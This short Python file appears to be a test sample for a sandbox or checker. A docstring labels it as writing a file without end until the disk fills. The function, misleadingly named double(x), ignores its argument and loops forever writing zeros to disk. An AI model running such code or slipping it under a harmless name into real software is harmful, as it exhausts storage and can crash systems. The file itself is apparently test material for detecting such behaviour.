"""Writes one file without end.

Ends: too much disk
Sign: reaches for files
"""


def double(x):
    with open("file", "wb") as file:
        while True:
            file.write(bytes(10**6))
